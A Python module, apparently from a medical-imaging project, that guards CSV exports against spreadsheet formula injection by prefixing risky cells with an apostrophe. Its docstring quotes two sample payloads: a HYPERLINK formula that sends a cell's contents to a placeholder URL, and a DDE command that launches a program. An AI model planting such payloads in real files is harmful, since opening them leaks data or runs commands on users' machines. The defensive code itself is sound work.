"""Text cells of a CSV meant for a spreadsheet: a cell that starts like a formula is kept text.

A case's file name or a model card's label name comes from whoever made the file or the card;
``=HYPERLINK("http://...?"&A1,"open")`` or ``=cmd|' /C calc'!A0`` as the first characters of a
cell is a formula to Excel and LibreOffice when the CSV is opened there (OWASP's "CSV
injection"). Such a cell is written with a leading apostrophe, as those programs write text that
looks like a formula: in ``segment --report`` and in the CSVs neuroview reads back (worklists
written from PACS, ``rank.csv``), whose readers take the apostrophe off again
(:func:`cell_value`), so a case path ``=2+3.nii.gz`` comes back as it was (it was written bare,
a formula in the lead's spreadsheet, until session 41).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """``value``, with an apostrophe in front when a spreadsheet would read it as a formula (or
    when it is apostrophes before a formula: :func:`cell_value` takes one off, whatever it was)."""
    return "'" + value if _quoted(value) else value


def cell_value(cell: str) -> str:
    """What :func:`spreadsheet_text` was given for ``cell``: a leading apostrophe before a formula
    start taken off; any other cell as it is (a worklist typed by hand)."""
    return cell[1:] if cell.startswith("'") and _quoted(cell[1:]) else cell


def _quoted(value: str) -> bool:
    return value.lstrip("'").startswith(FORMULA_STARTS)
